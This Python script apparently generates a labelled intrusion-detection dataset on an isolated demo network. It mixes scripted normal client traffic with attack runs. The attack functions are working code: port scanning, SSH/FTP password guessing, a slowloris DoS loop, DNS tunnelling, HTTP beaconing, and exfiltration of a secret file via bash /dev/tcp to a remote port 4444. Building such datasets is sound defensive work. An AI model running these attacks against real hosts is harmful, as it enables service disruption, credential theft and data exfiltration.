#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What the hosts of the demo network do: normal work, attacks, small servers.

make-demo.sh runs this inside network namespaces. Normal traffic comes from
real programs (curl, dig, msmtp, ssh, scp, sftp, ntpdig, ping, logger); a
seeded plan decides who does what, when and how much. Every attack writes one
JSON line per action into the attack log: label, endpoints, first and last
second. These lines, not the packets, are where the labels come from.
"""
import argparse
import base64
import concurrent.futures
import json
import math
import os
import random
import socket
import struct
import subprocess
import threading
import time

WEB, INFRA, FILES, REMOTE = "10.77.0.101", "10.77.0.102", "10.77.0.103", "10.77.0.210"
SIX = {WEB: "fd77::101", INFRA: "fd77::102", FILES: "fd77::103"}
SITES = [f"{name}.example.test" for name in
         ("www", "shop", "news", "wiki", "static", "img", "api", "portal", "intranet", "git")]
TUNNEL = "cdn-sync.test"
PAGES, DOWNLOADS, FTP_FILES = 60, 6, 12


def log_uniform(rng, low, high):
    return int(math.exp(rng.uniform(math.log(low), math.log(high))))


# ---------------------------------------------------------------- normal work

class Client:
    """One client host: plans sessions with its own seed, then runs the plan."""

    MIX = {  # how often a host of this role starts each kind of session
        "office": {"web": 50, "dns": 12, "mail": 9, "ntp": 3, "ping": 1, "files": 4, "ftp": 3,
                   "shell": 2, "syslog": 6, "health": 1, "odd": 2, "slow": 3},
        "developer": {"web": 34, "dns": 16, "mail": 3, "ntp": 3, "ping": 2, "files": 9, "ftp": 2,
                      "shell": 9, "syslog": 6, "health": 3, "odd": 2, "slow": 3},
        "operations": {"web": 20, "dns": 22, "mail": 5, "ntp": 7, "ping": 5, "files": 5, "ftp": 6,
                       "shell": 7, "syslog": 12, "health": 9, "odd": 2, "slow": 2},
    }

    def __init__(self, role, seed, work):
        self.rng = random.Random(seed)
        self.mix, self.work = self.MIX[role], work
        self.ran, self.failed, self.lock = 0, [], threading.Lock()

    def plan(self, seconds, gap):
        """(start, steps) of every session; a step is a command or a pause."""
        at, sessions = self.rng.uniform(0, gap), []
        while at < seconds - 3:
            kind = self.rng.choices(list(self.mix), self.mix.values())[0]
            steps = getattr(self, kind)()
            sessions.append((at, steps))
            # bursts and quiet moments rather than an even drip
            at += self.rng.expovariate(1 / (gap * self.rng.choice((0.3, 0.8, 1.9))))
        return sessions

    def run(self, sessions, start, seconds):
        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            for at, steps in sessions:
                time.sleep(max(0, start + at - time.time()))
                pool.submit(self.session, steps, start + seconds)

    def session(self, steps, end):
        for step in steps:
            if isinstance(step, float):
                time.sleep(max(0, min(step, end - time.time())))
                continue
            if time.time() > end:
                return
            may_fail = step[0] == "-"
            argv = step[1:] if may_fail else step
            stdin, argv = (argv[1], argv[2:]) if argv[0] == "<" else (os.devnull, argv)
            try:
                with open(stdin, "rb") as source:
                    done = subprocess.run(argv, stdin=source, stdout=subprocess.DEVNULL,
                                          stderr=subprocess.PIPE, timeout=25, check=False)
                wrong = done.returncode != 0 and not may_fail
                text = done.stderr.decode(errors="replace").strip()[-200:]
            except subprocess.TimeoutExpired:
                wrong, text = True, "timeout"
            with self.lock:
                self.ran += 1
                if wrong:
                    self.failed.append(f"{' '.join(argv)}: {text}")

    def pause(self, low, high):
        return float(log_uniform(self.rng, low * 1000, high * 1000)) / 1000

    # -- kinds of session

    def url(self, scheme, site):
        rng = self.rng
        page = rng.random()
        if page < 0.70:
            path = f"p{rng.randrange(PAGES):02}.html"
        elif page < 0.76:
            path = ""
        elif page < 0.90:
            path = f"app/?wait={log_uniform(rng, 3, 900)}&size={log_uniform(rng, 40, 20000)}"
        elif page < 0.93:
            path = "old"
        else:
            path = f"missing-{rng.randrange(1000)}"
        return f"{scheme}://{site}/{path}"

    def web(self):
        rng, steps = self.rng, []
        site, scheme = rng.choice(SITES), rng.choice(("http", "https", "https"))
        family = rng.choices(("", "-4", "-6"), (50, 30, 20))[0]
        agent = rng.choice(("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "curl/7.88.1",
                            "python-requests/2.31", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
        common = ["curl", "-gsk", "-A", agent] + ([family] if family else [])
        if scheme == "https":
            common += rng.choice(([], [], ["--http1.1"], ["--tls-max", "1.2"]))
        for _ in range(rng.choice((1, 1, 1, 2, 2, 3))):
            what = rng.random()
            if what < 0.55:      # one connection, one or more pages
                urls = [self.url(scheme, site) for _ in range(rng.choice((1, 1, 1, 2, 2, 4)))]
                steps.append(common + [w for u in urls for w in ("-o", "/dev/null", u)])
            elif what < 0.68:    # a connection closed by the server
                steps.append(common + ["-H", "Connection: close", "--http1.1", self.url(scheme, site)])
            elif what < 0.74:
                steps.append(common + ["--http1.0", self.url(scheme, site)])
            elif what < 0.80:
                steps.append(common + ["-I", self.url(scheme, site)])
            elif what < 0.92:    # a form, a small or larger upload
                body = os.path.join(self.work, "www", f"p{rng.randrange(PAGES):02}.html")
                steps.append(common + ["--data-binary", f"@{body}", f"{scheme}://{site}/api/{rng.randrange(100)}"])
            elif what < 0.96:
                steps.append(common + ["-r", f"0-{log_uniform(rng, 100, 30000)}",
                                       f"{scheme}://{site}/d{rng.randrange(DOWNLOADS)}.bin"])
            else:
                steps.append(common + ["-L", f"{scheme}://{site}/old"])
            steps.append(self.pause(0.02, 2.5))
        return steps

    def slow(self):
        """Slow but honest: throttled downloads, long answers, kept connections."""
        rng, site = self.rng, self.rng.choice(SITES)
        scheme = rng.choice(("http", "https"))
        kind = rng.randrange(3)
        if kind == 0:
            return [["curl", "-gsk", "--limit-rate", str(log_uniform(rng, 6000, 40000)),
                     f"{scheme}://{site}/d{rng.randrange(2)}.bin"]]
        if kind == 1:
            return [["curl", "-gsk", f"{scheme}://{site}/app/?wait={log_uniform(rng, 1500, 9000)}&size=400"]]
        pages = [f"{scheme}://{site}/app/?wait={log_uniform(rng, 200, 3000)}&size={log_uniform(rng, 100, 9000)}"
                 for _ in range(rng.randrange(3, 8))]
        return [["curl", "-gsk"] + [w for u in pages for w in ("-o", "/dev/null", u)]]

    def dns(self):
        rng, steps = self.rng, []
        server = "@" + (SIX[INFRA] if rng.random() < 0.25 else INFRA)
        for _ in range(rng.choice((1, 2, 3, 4, 6))):
            kind = rng.choices(("A", "AAAA", "MX", "TXT", "SRV", "PTR", "CNAME", "SOA", "none"),
                               (34, 18, 8, 9, 5, 9, 5, 3, 9))[0]
            name = rng.choice(SITES + [f"host{rng.randrange(200)}.example.test" for _ in range(20)])
            if kind == "none":
                name, kind = f"nowhere{rng.randrange(10**6)}.example.test", "A"
            elif kind == "TXT":
                name = f"note{rng.randrange(12)}.example.test"
            elif kind == "MX":
                name = "example.test"
            elif kind == "SRV":
                name = "_sip._tcp.example.test"
            elif kind == "CNAME":
                name = f"alias{rng.randrange(12)}.example.test"
            query = ["dig", server, "+tries=2", "+time=2", "+short"]
            query += ["-x", f"10.77.0.{rng.choice((11, 12, 13, 101, 102, 103))}"] if kind == "PTR" else [kind, name]
            if rng.random() < 0.06:
                query.append("+tcp")
            query += rng.choice(([], [], [], ["+dnssec"], ["+noedns"], ["+nocookie"], ["+bufsize=512"]))
            steps += [query, self.pause(0.01, 1.5)]
        return steps

    def mail(self):
        rng, steps = self.rng, []
        for _ in range(rng.choice((1, 1, 1, 2))):
            letter = os.path.join(self.work, "mail", f"m{rng.randrange(24):02}.txt")
            to = [f"user{rng.randrange(40)}@example.test" for _ in range(rng.choice((1, 1, 2, 4)))]
            sender = f"user{rng.randrange(40)}@example.test"
            if rng.random() < 0.6:
                host = rng.choice(("mail.example.test", "mail.example.test", INFRA, SIX[INFRA]))
                steps.append(["<", letter, "msmtp", "-C", "/dev/null", f"--host={host}", "--port=25",
                              "--tls=off", "--auth=off", "--domain=client.example.test", f"--from={sender}", "--"] + to)
            else:
                host = rng.choice((INFRA, f"[{SIX[INFRA]}]", "mail.example.test"))
                steps.append(["curl", "-gs", "--crlf", "--mail-from", sender, *[w for r in to for w in ("--mail-rcpt", r)],
                              "-T", letter, f"smtp://{host}/client.example.test"])
            steps.append(self.pause(0.1, 2))
        return steps

    def ssh_options(self):
        return ["-q", "-F", "none", "-i", f"{self.work}/keys/user", "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes"]

    def shell(self):
        rng = self.rng
        host = rng.choice((FILES, FILES, "files.example.test", SIX[FILES]))
        command = rng.choice((
            "uptime", "df -h; uname -a", f"head -c {log_uniform(rng, 300, 25000)} /dev/urandom | base64",
            f"for i in $(seq {rng.randrange(2, 9)}); do date; sleep {rng.uniform(0.1, 1.2):.2f}; done",
            f"for i in $(seq {rng.randrange(2, 12)}); do seq {rng.randrange(5, 200)}; sleep {rng.uniform(0.05, 0.6):.2f}; done"))
        return [["ssh", *self.ssh_options(), f"root@{host}", command]]

    def files(self):
        rng = self.rng
        host = rng.choice((FILES, FILES, "files.example.test", f"[{SIX[FILES]}]"))
        name = f"f{rng.randrange(FTP_FILES):02}.bin"
        here, there = f"{self.work}/ftp/{name}", f"root@{host}:{self.work}/ftp/{name}"
        kind = rng.randrange(4)
        if kind == 0:
            return [["scp", *self.ssh_options(), here, f"root@{host}:/root/{rng.randrange(10**6)}"]]
        if kind == 1:
            return [["scp", *self.ssh_options(), there, "/dev/null"]]
        batch = rng.choice(("a", "b", "c", "d"))
        return [["<", f"{self.work}/sftp/{batch}", "sftp", *self.ssh_options(), "-b", "-", f"root@{host}"]]

    def ftp(self):
        rng, steps = self.rng, []
        host = rng.choice((FILES, FILES, "files.example.test", f"[{SIX[FILES]}]"))
        user = ["curl", "-gs", "-u", "demo:correct-horse"]
        for _ in range(rng.choice((1, 1, 2))):
            kind, names = rng.randrange(4), [f"f{rng.randrange(FTP_FILES):02}.bin" for _ in range(rng.choice((1, 1, 2, 3)))]
            if kind == 0:
                steps.append(user + [f"ftp://{host}/"])
            elif kind == 1:
                steps.append(user + ["-T", f"{self.work}/ftp/{names[0]}", f"ftp://{host}/up/{rng.randrange(10**6)}.bin"])
            else:
                steps.append(user + [w for n in names for w in ("-o", "/dev/null", f"ftp://{host}/{n}")])
            steps.append(self.pause(0.1, 2))
        return steps

    def ntp(self):
        return [["ntpdig", "-t", "2", SIX[INFRA] if self.rng.random() < 0.25 else INFRA]]

    def ping(self):
        rng, host = self.rng, self.rng.choice((WEB, INFRA, FILES))
        return [["ping", "-q", "-c", str(rng.randrange(1, 6)), "-i", f"{rng.uniform(0.2, 1):.2f}",
                 "-s", str(rng.choice((8, 56, 56, 56, 200, 1000))), SIX[host] if rng.random() < 0.3 else host]]

    def syslog(self):
        rng, steps = self.rng, []
        for _ in range(rng.choice((1, 1, 2, 3))):
            text = " ".join(rng.choice(("job", "done", "cache", "user", "login", "disk", "ok", "retry", "session"))
                            for _ in range(log_uniform(rng, 2, 70)))
            steps += [["logger", "-d", "-n", SIX[INFRA] if rng.random() < 0.2 else INFRA, "-P", "514",
                       "-t", rng.choice(("cron", "app", "kernel", "backup")), text], self.pause(0.02, 2)]
        return steps

    def health(self):
        rng, steps = self.rng, []
        for _ in range(rng.choice((1, 2, 3))):
            host, port = rng.choice(((WEB, 80), (WEB, 443), (INFRA, 25), (FILES, 22), (FILES, 21)))
            host = SIX[host] if rng.random() < 0.2 else host
            steps += [["bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}; sleep {rng.uniform(0, 0.4):.2f}"],
                      self.pause(0.05, 1)]
        return steps

    def odd(self):
        """What goes wrong in normal work: a service that is down, a mistyped password."""
        rng = self.rng
        kind = rng.randrange(4)
        if kind == 0:
            return [["-", "curl", "-gs", f"http://{rng.choice((WEB, INFRA, FILES))}:{rng.choice((8080, 8443, 9000, 5432))}/"]]
        if kind == 1:
            return [["-", "curl", "-gs", "-u", "demo:corect-horse", f"ftp://{FILES}/"], self.pause(0.5, 2),
                    ["curl", "-gs", "-u", "demo:correct-horse", f"ftp://{FILES}/"]]
        if kind == 2:
            return [["-", "ssh", "-q", "-F", "none", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
                     "UserKnownHostsFile=/dev/null", f"root@{FILES}", "true"], self.pause(0.5, 2)] + self.shell()
        return [["-", "curl", "-gs", "-m", "1", f"http://{WEB}/app/?wait=4000&size=10"]]


# -------------------------------------------------------------------- attacks

class AttackLog:
    """Append-only: one line per action, written when the action has ended."""

    def __init__(self, path):
        self.path = path

    def add(self, label, src, dst, proto, dport, begin, end, sport=None):
        line = json.dumps({"label": label, "src": src, "dst": dst, "proto": proto, "sport": sport,
                           "dport": dport, "start": begin, "end": end})
        with open(self.path, "a", encoding="ascii") as out:
            out.write(line + "\n")


def quiet(argv, **more):
    return subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, check=False, **more)


def scan(log, rng, src, target, mode, count, rate):
    """nmap with `count` ports in random order; icmp answers belong to it."""
    well_known = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 161, 389, 443, 445, 993, 1433, 3306, 3389, 5432, 8080]
    ports = set(well_known[:count // 2])
    while len(ports) < count:
        ports.add(rng.randrange(1, 10000))
    ports = rng.sample(sorted(ports), count)
    if mode == "-sU":
        ports = rng.sample([7, 19, 67, 69, 111, 123, 137, 161, 500, 514, 520, 623, 1194, 1701, 1900, 4500, 5060, 5353, 11211], count)
    argv = ["nmap", "-n", "-Pn", mode, "--max-rate", str(rate), "--max-retries", "1", "-p", ",".join(map(str, ports))]
    begin = time.time()
    quiet(argv + (["-6"] if ":" in target else []) + [target])
    for proto in ([17, 1] if mode == "-sU" else [6]):
        log.add("PortScan", src, target, proto, None, begin, time.time())


def passwords(log, rng, src, target, service, count, parallel, work):
    words = ["123456", "password", "qwerty", "letmein", "admin", "root", "toor", "changeme", "welcome1", "summer2026"]
    label, port = ("SSH-Patator", 22) if service == "ssh" else ("FTP-Patator", 21)

    def guess(seed):
        own = random.Random(seed)
        user, word = own.choice(("root", "admin", "test", "oracle", "ubuntu", "backup")), own.choice(words)
        if service == "ssh":
            env = dict(os.environ, SSH_ASKPASS=f"{work}/askpass", SSH_ASKPASS_REQUIRE="force", GUESS=word)
            quiet(["ssh", "-q", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                   "-o", "PubkeyAuthentication=no", "-o", f"NumberOfPasswordPrompts={own.choice((1, 1, 2, 3))}",
                   f"{user}@{target}", "true"], env=env, timeout=20)
        else:
            quiet(["curl", "-gs", "-u", f"{user}:{word}", f"ftp://{target}/"], timeout=20)
        time.sleep(own.uniform(0, 0.4))

    begin = time.time()
    with concurrent.futures.ThreadPoolExecutor(parallel) as pool:
        list(pool.map(guess, [rng.random() for _ in range(count)]))
    log.add(label, src, target, 6, port, begin, time.time())


def slowloris(log, rng, src, target, count, seconds):
    begin, open_sockets = time.time(), []
    agents = [f"Mozilla/5.0 ({rng.randrange(10**6)})" for _ in range(5)]
    end, next_open = begin + seconds, begin
    while time.time() < end:
        now = time.time()
        if len(open_sockets) < count and now >= next_open:
            conn = socket.create_connection((target, 80), 5)
            conn.sendall(f"GET /?{rng.randrange(10**6)} HTTP/1.1\r\nHost: www.example.test\r\n"
                         f"User-Agent: {rng.choice(agents)}\r\n".encode())
            open_sockets.append([now + rng.uniform(1.5, 4), conn])
            next_open = now + rng.uniform(0.05, 0.3)
        for entry in list(open_sockets):
            if now >= entry[0]:
                try:
                    entry[1].sendall(f"X-{rng.randrange(10**4)}: {rng.randrange(10**4)}\r\n".encode())
                    entry[0] = now + rng.uniform(1.5, 4)
                except OSError:          # the server gave up on this one
                    open_sockets.remove(entry)
        time.sleep(0.02)
    for _, conn in open_sockets:
        conn.close()
    log.add("DoS slowloris", src, target, 6, 80, begin, time.time())


def tunnel(log, rng, src, target, seconds):
    """Data in the names of TXT queries through the ordinary resolver."""
    begin = time.time()
    kept = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    kept.connect((target, 53))
    kept.settimeout(2)
    while time.time() < begin + seconds:
        now, conn = time.time(), kept
        if rng.random() < 0.6:
            conn = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            conn.connect((target, 53))
            conn.settimeout(2)
        for _ in range(rng.choice((1, 1, 1, 2))):
            data = base64.b32encode(rng.randbytes(rng.randrange(60, 115))).decode().rstrip("=").lower()
            labels = [data[i:i + 60] for i in range(0, len(data), 60)] + TUNNEL.split(".")
            name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
            conn.send(struct.pack(">HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1))
            try:
                conn.recv(4096)
            except OSError:
                pass
        if conn is not kept:
            log.add("DNS tunnel", src, target, 17, 53, now, time.time(), conn.getsockname()[1])
            conn.close()
        time.sleep(rng.uniform(0.1, 0.7))
    log.add("DNS tunnel", src, target, 17, 53, begin, time.time(), kept.getsockname()[1])
    # the resolver's own questions to the name server at the other end
    log.add("DNS tunnel", target, REMOTE, 17, 53, begin, time.time() + 1)


def beacon(log, rng, src, target, seconds):
    begin = time.time()
    due, token = begin, f"{rng.randrange(16**8):08x}"
    while due < begin + seconds:
        time.sleep(max(0, due - time.time()))
        quiet(["curl", "-gs", "-m", "5", f"http://{target}:8080/gate?id={token}&n={rng.randrange(1000)}"])
        due += rng.uniform(0.95, 1.05)
    log.add("Beacon", src, target, 6, 8080, begin, time.time())


def exfiltrate(log, rng, src, target, count, gap, work):
    for _ in range(count):
        begin, path = time.time(), f"{work}/secret"
        size = log_uniform(rng, 60_000, 240_000)
        quiet(["bash", "-c", f"head -c {size} {path} > /dev/tcp/{target}/4444"], timeout=30)
        log.add("Exfiltration", src, target, 6, 4444, begin, time.time())
        time.sleep(gap * rng.uniform(0.6, 1.4))


def attack(args):
    log, rng = AttackLog(args.log), random.Random(args.seed)
    time.sleep(max(0, args.start - time.time()))
    kind, src, target = args.kind, args.source, args.target
    if kind == "scan":
        scan(log, rng, src, target, args.mode, args.count, args.rate)
    elif kind in ("ssh", "ftp"):
        passwords(log, rng, src, target, kind, args.count, args.parallel, args.work)
    elif kind == "slowloris":
        slowloris(log, rng, src, target, args.count, args.seconds)
    elif kind == "tunnel":
        tunnel(log, rng, src, target, args.seconds)
    elif kind == "beacon":
        beacon(log, rng, src, target, args.seconds)
    else:
        exfiltrate(log, rng, src, target, args.count, args.gap, args.work)


# -------------------------------------------------------------- small servers

def serve_app(address, port):
    """The application behind the web server: waits, then answers at length."""
    import http.server
    import urllib.parse

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
            time.sleep(int(query.get("wait", ["0"])[0]) / 1000)
            body = os.urandom(int(query.get("size", ["100"])[0]) // 2 + 1).hex().encode()
            try:
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            except OSError:
                pass

        def log_message(self, *unused):
            pass

    http.server.ThreadingHTTPServer((address, port), Handler).serve_forever()


def serve_syslog(port):
    sink = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sink.bind(("::", port))
    while True:
        sink.recv(65535)


def serve_remote(address):
    """The far end of the attacks: name server of the tunnel, upload sink."""
    def drain(conn):
        with conn:
            while conn.recv(65536):
                pass

    def uploads():
        server = socket.create_server((address, 4444))
        while True:
            threading.Thread(target=drain, args=(server.accept()[0],), daemon=True).start()

    threading.Thread(target=uploads, daemon=True).start()
    names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    names.bind((address, 53))
    while True:
        query, peer = names.recvfrom(4096)
        end = 12
        while query[end]:
            end += query[end] + 1
        text = base64.b64encode(os.urandom(random.randrange(30, 150)))
        answer = struct.pack(">HHHIH", 0xC00C, 16, 1, 0, len(text) + 1) + bytes([len(text)]) + text
        names.sendto(query[:2] + struct.pack(">HHHHH", 0x8580, 1, 1, 0, 0) + query[12:end + 5] + answer, peer)


# ------------------------------------------------------------------ beginning

def contents(work, seed):
    """Pages, files and letters of many sizes; the same ones for the same seed."""
    rng = random.Random(seed)

    def write(path, size, text=True):
        os.makedirs(os.path.dirname(f"{work}/{path}"), exist_ok=True)
        data = rng.randbytes(size)
        if text:
            data = base64.encodebytes(data)[:size]
        with open(f"{work}/{path}", "wb") as out:
            out.write(data)

    write("www/index.html", 2300)
    for i in range(PAGES):
        write(f"www/p{i:02}.html", log_uniform(rng, 90, 24000))
    for i in range(DOWNLOADS):
        write(f"www/d{i}.bin", 30000 + 15000 * i, False)
    for i in range(FTP_FILES):
        write(f"ftp/f{i:02}.bin", log_uniform(rng, 200, 70000), False)
    os.makedirs(f"{work}/ftp/up", exist_ok=True)
    write("secret", 240000, False)
    for i in range(24):
        write(f"mail/m{i:02}.txt", log_uniform(rng, 120, 30000))
        with open(f"{work}/mail/m{i:02}.txt", "r+b") as letter:
            text = letter.read()
            letter.seek(0)
            letter.write(b"Subject: report %d\r\nFrom: a@example.test\r\nTo: b@example.test\r\n\r\n" % i + text)
    os.makedirs(f"{work}/sftp", exist_ok=True)
    for name, batch in {"a": f"ls {work}/ftp\nls /\npwd\n",
                        "b": f"get {work}/ftp/f01.bin /dev/null\nget {work}/ftp/f02.bin /dev/null\n",
                        "c": f"mkdir /root/in\nput {work}/ftp/f03.bin /root/in/\nls /root/in\nrm /root/in/f03.bin\nrmdir /root/in\n",
                        "d": f"cd {work}/ftp\nls -l\nget f05.bin /dev/null\nls\nget f06.bin /dev/null\n"}.items():
        with open(f"{work}/sftp/{name}", "w", encoding="ascii") as out:
            out.write("".join(f"-{line}\n" for line in batch.splitlines()))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    commands = parser.add_subparsers(dest="command", required=True)
    one = commands.add_parser("contents")
    one.add_argument("work")
    one.add_argument("seed", type=int)
    one = commands.add_parser("client")
    one.add_argument("--role", choices=sorted(Client.MIX), required=True)
    for name in ("--seed", "--work"):
        one.add_argument(name, required=True)
    for name in ("--start", "--seconds", "--gap"):
        one.add_argument(name, type=float, required=True)
    one = commands.add_parser("attack")
    one.add_argument("kind", choices=("scan", "ssh", "ftp", "slowloris", "tunnel", "beacon", "exfiltrate"))
    one.add_argument("source")
    one.add_argument("target")
    for name in ("--log", "--seed", "--work"):
        one.add_argument(name, required=True)
    one.add_argument("--mode", default="-sS")
    one.add_argument("--start", type=float, default=0)
    one.add_argument("--seconds", type=float, default=20)
    one.add_argument("--gap", type=float, default=4)
    for name, value in (("--count", 20), ("--rate", 40), ("--parallel", 3)):
        one.add_argument(name, type=int, default=value)
    one = commands.add_parser("serve")
    one.add_argument("what", choices=("app", "syslog", "remote"))
    one.add_argument("address")
    args = parser.parse_args()

    if args.command == "contents":
        contents(args.work, args.seed)
    elif args.command == "attack":
        attack(args)
    elif args.command == "serve":
        {"app": lambda: serve_app(args.address, 9000), "syslog": lambda: serve_syslog(514),
         "remote": lambda: serve_remote(args.address)}[args.what]()
    else:
        client = Client(args.role, args.seed, args.work)
        client.run(client.plan(args.seconds, args.gap), args.start, args.seconds)
        with open(f"{args.work}/clients.log", "a", encoding="utf-8") as out:
            out.write(f"{client.ran} {len(client.failed)}\n" + "".join(f"# {text!r}\n" for text in client.failed))


if __name__ == "__main__":
    main()
